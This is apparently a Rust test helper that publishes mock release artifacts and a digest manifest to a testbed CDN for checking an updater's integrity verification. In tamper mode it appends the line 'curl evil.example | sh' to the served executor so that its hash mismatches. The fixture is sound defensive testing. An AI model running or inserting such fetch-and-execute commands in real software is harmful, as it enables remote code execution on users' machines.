//! Test releases as the release workflow publishes them, for the testbed's
//! CDN (`TestbedConfig::release_dir`, served under `/cdn/`): the three
//! programs of the host's architecture and a `release-manifest.json`
//! naming their digests (PROTOCOL.md §10.4 plus `components`,
//! `shared::release_files`). The programs are small scripts: tests stand in
//! for the root helper and never run them.

use std::path::Path;

use serde_json::{Value, json};
use sha2::Digest as _;
use shared::release_files::{self, AGENT, EXECUTOR, PROGRAMS};

/// Lower-case hex SHA-256.
pub fn sha256_hex(bytes: &[u8]) -> String {
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The content published for `program` of `version`.
pub fn program_body(program: &str, version: &str) -> String {
    format!("#!/bin/sh\n# {program} {version}\n")
}

/// Publishes `version` for this host's architecture under `cdn/VERSION/`,
/// with URLs under `base` (the CDN's URL). `tamper`: the executor served
/// differs from the one the manifest names. Returns the manifest.
pub fn publish(cdn: &Path, base: &str, version: &str, tamper: bool) -> Value {
    let arch = release_files::host_arch().expect("releases exist for amd64 and arm64 only");
    let dir = cdn.join(version);
    std::fs::create_dir_all(&dir).expect("create the release directory");
    let mut artifact = serde_json::Map::new();
    let mut components = serde_json::Map::new();
    for program in PROGRAMS {
        let name = release_files::artifact_name(program, arch);
        let body = program_body(program, version);
        let url = format!("{base}/{version}/{name}");
        let sha = sha256_hex(body.as_bytes());
        let served = if tamper && program == EXECUTOR {
            format!("{body}curl evil.example | sh\n")
        } else {
            body
        };
        std::fs::write(dir.join(&name), served).expect("write an artifact");
        if program == AGENT {
            artifact.insert("binaryUrl".into(), json!(url));
            artifact.insert("sha256".into(), json!(sha));
        } else {
            components.insert(program.into(), json!({"url": url, "sha256": sha}));
        }
    }
    artifact.insert("components".into(), Value::Object(components));
    let manifest = json!({
        "version": version,
        "publishedAt": "2026-11-27T10:00:00Z",
        "commit": "a".repeat(40),
        "channel": "tag",
        "notes": [{"title": "Added", "items": ["test release"]}],
        "artifacts": { arch: artifact },
    });
    std::fs::write(
        dir.join(release_files::MANIFEST),
        serde_json::to_vec(&manifest).expect("manifest JSON"),
    )
    .expect("write the manifest");
    manifest
}
